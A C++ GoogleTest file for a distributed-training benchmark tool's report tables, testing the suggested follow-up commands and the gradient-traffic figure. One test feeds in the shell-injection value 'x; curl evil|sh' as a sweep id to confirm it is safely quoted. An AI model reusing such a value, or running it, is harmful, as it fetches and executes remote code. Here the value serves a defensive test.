#include "reports/tables/next_steps.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "example_summary.h"
#include "reports/formats/terminal/text.h"
#include "reports/tables/run_content.h"

namespace ddbench::reports {
namespace {

std::vector<std::string> commands_of(const DataTable& steps) {
  std::vector<std::string> commands;
  for (const auto& row : steps.rows) commands.push_back(row.front().text);
  return commands;
}

analyzer::Advice larger_buckets() {
  analyzer::Advice advice;
  advice.change = "buckets of 25 MB (now 1 MB)";
  advice.gain = {0.123, {0.08, 0.15, 0.95, "replay"}};
  return advice;
}

TEST(NextSteps, AfterARunAreTheCommandsThatExplainIt) {
  const auto run = example_run();
  const std::string id = run.run.id.substr(run.run.id.size() - 8);
  const std::vector<std::string> wanted = {"ddbench diagnose " + id, "ddbench advise " + id, "ddbench predict " + id + " --nodes 8 --link 10gbit",
                                           "ddbench gui"};
  EXPECT_EQ(commands_of(next_steps_data(run)), wanted);
}

TEST(NextSteps, NameTheStoreThatTheCommandNamed) {
  for (const auto& command : commands_of(steps_in_store(next_steps_data(example_run()), "my runs.db")))
    EXPECT_TRUE(command.ends_with(" --db 'my runs.db'")) << command;
  EXPECT_EQ(commands_of(steps_in_store(next_steps_data(example_run()), "")), commands_of(next_steps_data(example_run())));
}

TEST(NextSteps, AreNoCommandsOfWhoeverNamedTheSweep) {
  analyzer::ScalingTable sweep;
  sweep.sweep_id = "x; curl evil|sh";
  sweep.rows.resize(1);
  for (const auto& command : commands_of(next_steps_data(sweep))) EXPECT_NE(command.find("'x; curl evil|sh'"), std::string::npos) << command;
}

TEST(NextSteps, NoPredictionOfWhatCannotBeReplayed) {
  auto run = example_run();
  run.run.run_case.strategy = "zero3";
  for (const auto& command : commands_of(next_steps_data(run))) EXPECT_EQ(command.find("predict"), std::string::npos) << command;
  const auto without_spans = Measured<analyzer::AdviceReport>::missing("its spans were deleted");
  for (const auto& command : commands_of(next_steps_data(example_run(), analyzer::Diagnosis{}, without_spans)))
    EXPECT_EQ(command.find("predict"), std::string::npos) << command;
}

TEST(NextSteps, NameTheFirstChangeAndTheChecksOfAVerdict) {
  analyzer::Diagnosis diagnosis;
  diagnosis.cause = analyzer::Cause::kSlowCompute;
  diagnosis.next_checks = {"clocks of the GPU", "its temperature", "other processes"};
  analyzer::AdviceReport advice;
  advice.advice = {larger_buckets()};
  const DataTable steps = next_steps_data(example_run(), diagnosis, advice);
  EXPECT_EQ(steps.rows[0][1].text, "check: clocks of the GPU; its temperature. The evidence, and all checks");
  EXPECT_EQ(steps.rows[1][1].text,
            "try first: buckets of 25 MB (now 1 MB), predicted +12.3% (95% CI +8.0% to +15.0%). All changes, and what they assume");
}

TEST(NextSteps, OfAHealthyRunWithoutAnyGainNeitherAccuseNorPromise) {
  const auto commands = commands_of(next_steps_data(example_run(), analyzer::Diagnosis{}, analyzer::AdviceReport{}));
  ASSERT_EQ(commands.size(), 2U);
  EXPECT_EQ(commands[0].rfind("ddbench predict ", 0), 0U);
}

TEST(NextSteps, OfAFailedRunAndOfOneRankAreNoComparisons) {
  for (const auto& command : commands_of(next_steps_data(example_failed_run()))) {
    EXPECT_EQ(command.find("advise"), std::string::npos);
    EXPECT_EQ(command.find("predict"), std::string::npos);
  }
  for (const auto& command : commands_of(next_steps_data(example_baseline()))) EXPECT_EQ(command.find("diagnose"), std::string::npos);
}

TEST(NextSteps, OfASweepAskForIntervalsOnlyWhereThereAreNone) {
  auto table = example_strong_scaling();
  const auto repeats = [&] {
    for (const auto& command : commands_of(next_steps_data(table))) {
      if (command.find("--repeat 3") != std::string::npos) return true;
    }
    return false;
  };
  for (auto& row : table.rows) row.efficiency_interval = Measured<ConfidenceInterval>::missing("one run");
  EXPECT_TRUE(repeats());
  for (auto& row : table.rows) row.efficiency_interval = ConfidenceInterval{0.4, 0.6, 0.95, "Welch's t"};
  EXPECT_FALSE(repeats());
}

TEST(NextSteps, AreTextWithOneLineForEachCommand) {
  const std::string text = next_steps_text(next_steps_data(example_run()), {});
  EXPECT_EQ(text.rfind("\nWhat to do next\n", 0), 0U) << text;
  EXPECT_NE(text.find("ddbench gui"), std::string::npos);
  EXPECT_EQ(next_steps_text(DataTable{}, {}), "");
}

TEST(Traffic, OfGradientsIsAKeyFigureAndNoWarning) {
  auto summary = example_run();
  set_fact(summary.run.environment.facts, fact_key<"strategy.sent_bytes_per_step">, 5'023'000.0);
  set_fact(summary.run.environment.facts, fact_key<"strategy.traffic">, "2 (n-1)/n S");
  const DataTable measures = measures_data(summary);
  const auto row = std::find_if(measures.rows.begin(), measures.rows.end(), [](const auto& cells) { return cells[0].text == "gradient traffic"; });
  ASSERT_NE(row, measures.rows.end());
  EXPECT_EQ((*row)[1].text, "5.02 MB");
  EXPECT_EQ((*row)[2].text, "per rank and step: 2 (n-1)/n S, of n ranks and S bytes of gradients");
  for (const std::string& note : summary.notes) EXPECT_EQ(note.find("gradient traffic"), std::string::npos);
}

}  // namespace
}  // namespace ddbench::reports
